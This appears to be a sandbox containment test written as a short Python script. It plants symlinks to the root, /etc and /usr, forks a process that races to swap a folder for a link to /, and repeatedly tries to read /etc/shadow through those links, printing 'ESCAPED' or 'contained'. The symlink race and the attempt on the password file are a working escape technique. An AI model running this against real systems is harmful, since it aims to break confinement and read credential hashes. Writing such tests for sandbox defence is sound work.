# verdict: ok ; what: swaps a folder with a link to / while it is read and while the sandbox clears up
import os

for name, target in (("root", "/"), ("above", "../../.."), ("etc", "/etc"), ("usr", "/usr")):
    os.symlink(target, name)
os.mkdir("folder")
if os.fork() == 0:
    while True:
        try:
            os.rename("folder", "aside")
            os.symlink("/", "folder")
            os.unlink("folder")
            os.rename("aside", "folder")
        except OSError:
            continue
for _ in range(500):
    for path in ("folder/etc/shadow", "root/etc/shadow", "above/etc/shadow"):
        try:
            with open(path, "rb") as file:
                print(f"ESCAPED: {path} begins with {file.read(8)!r}")
        except OSError:
            continue
print("contained", flush=True)
os._exit(0)
